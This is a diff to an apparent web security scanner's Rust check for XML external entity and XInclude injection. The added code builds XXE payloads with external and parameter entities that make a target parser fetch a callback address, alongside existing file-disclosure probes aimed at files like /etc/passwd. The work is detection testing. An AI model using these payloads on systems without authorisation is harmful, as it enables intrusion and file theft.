@@ -1,4 +1,5 @@
-//! External entities and inclusions in XML: by the contents of a file, by the error about one that is missing.
+//! External entities and inclusions in XML: by the contents of a file, by the error about one that is missing, by
+//! a connection to us.
 //!
 //! Documents that a request sends are built anew with a document type; a value that may be put into a
 //! document by the application gets an inclusion (XInclude 1.0); requests that send something else are sent
@@ -8,10 +9,11 @@ use vedette_protocol::finding::{Confidence, FindingType, ShownBy};
 
 use super::{Of, Test, nothing_afterwards, shows_passwd};
 use crate::web::{
+    call::{self, Call},
     input::{Payload, Place, inputs},
     request::Body,
     response::Response,
-    trial::{Company, Proof, Stop, Trial, Verdict},
+    trial::{Company, Proof, Stop, Subject, Trial, Verdict},
 };
 
 pub(crate) const TEST: Test = Test {
@@ -23,7 +25,7 @@ pub(crate) const TEST: Test = Test {
 };
 
 fn judge(trial: &Trial<'_>) -> Verdict {
-    if let Some(document) = document(trial) {
+    if let Some(document) = document(trial.subject) {
         for (way, prepare) in WAYS {
             let send = |file: &str, nth| {
                 let text = prepare(&document.text, file);
@@ -46,6 +48,48 @@ fn judge(trial: &Trial<'_>) -> Verdict {
         return Ok(None);
     }
     judged(trial, "inclusion in a value", &include)
+}
+
+/// For parsers of which nothing is shown: all that a document may have loaded, at one address.
+pub(super) fn calls(subject: &Subject) -> Vec<Call> {
+    let Some(Document { text, whole }) = document(subject) else {
+        return Vec::new();
+    };
+    let payload = move |text: String| match whole {
+        true => Payload::Document("text/xml", text),
+        false => Payload::Value(text),
+    };
+    let url = |place: call::Place, name| format!("http://{}:{}/{name}", place.host(), place.port());
+    let plain = text.clone();
+    let proof = Proof {
+        type_: FindingType::WebXxe,
+        confidence: Confidence::Certain,
+        shown_by: ShownBy::Callback,
+        detail: "document type",
+    };
+    vec![Call::new(
+        proof,
+        move |place| {
+            let (head, root) = without_declaration(&text);
+            let (name, body) = (root_name(root), with_texts(root, "&k;"));
+            let loaded = |of| url(place, of);
+            payload(format!(
+                "{head}<!DOCTYPE {name} SYSTEM \"{}\" [<!ENTITY k SYSTEM \"{}\"><!ENTITY % p SYSTEM \"{}\"> %p;]>{body}",
+                loaded("d"),
+                loaded("k"),
+                loaded("p"),
+            ))
+        },
+        // The same as text, which nothing loads.
+        move |place| {
+            let (head, root) = without_declaration(&plain);
+            let (name, body) = (root_name(root), with_texts(root, "&k;"));
+            payload(format!(
+                "{head}<!DOCTYPE {name} [<!ENTITY k \"{}\">]>{body}",
+                url(place, "k")
+            ))
+        },
+    )]
 }
 
 /// Whether a file is shown, or the error about one that is missing names it.
@@ -91,8 +135,8 @@ struct Document {
 }
 
 /// The document that this input stands for, if it is the one that stands for it.
-fn document(trial: &Trial<'_>) -> Option<Document> {
-    let (request, input) = (&trial.subject.request, &trial.subject.input);
+fn document(subject: &Subject) -> Option<Document> {
+    let (request, input, value) = (&subject.request, &subject.input, &subject.value);
     let first = |wanted: fn(Place) -> bool| {
         inputs(request)
             .into_iter()
@@ -106,8 +150,7 @@ fn document(trial: &Trial<'_>) -> Option<Document> {
             whole: true,
         }),
         (Body::Json(_) | Body::Form(_), Place::Json | Place::Form)
-            if first(|place| matches!(place, Place::Json | Place::Form))
-                && !trial.value().starts_with('<') =>
+            if first(|place| matches!(place, Place::Json | Place::Form)) && !value.starts_with('<') =>
         {
             let fields = inputs(request)
                 .into_iter()
@@ -127,25 +170,25 @@ fn document(trial: &Trial<'_>) -> Option<Document> {
                 whole: true,
             })
         }
-        (Body::Multipart(_), Place::Multipart) if is_file(trial) => Some(Document {
+        (Body::Multipart(_), Place::Multipart) if is_file(subject) => Some(Document {
             text: "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>k</text></svg>".to_owned(),
             whole: false,
         }),
-        _ if trial.value().trim_start().starts_with('<') && trial.value().contains("</") => Some(Document {
-            text: trial.value().to_owned(),
+        _ if value.trim_start().starts_with('<') && value.contains("</") => Some(Document {
+            text: value.clone(),
             whole: false,
         }),
         _ => None,
     }
 }
 
-fn is_file(trial: &Trial<'_>) -> bool {
-    let Body::Multipart(parts) = &trial.subject.request.body else {
+fn is_file(subject: &Subject) -> bool {
+    let Body::Multipart(parts) = &subject.request.body else {
         return false;
     };
     parts
         .iter()
-        .any(|part| part.name == trial.subject.input.name && part.file.is_some())
+        .any(|part| part.name == subject.input.name && part.file.is_some())
 }
 
 /// How a document is made to load a file.
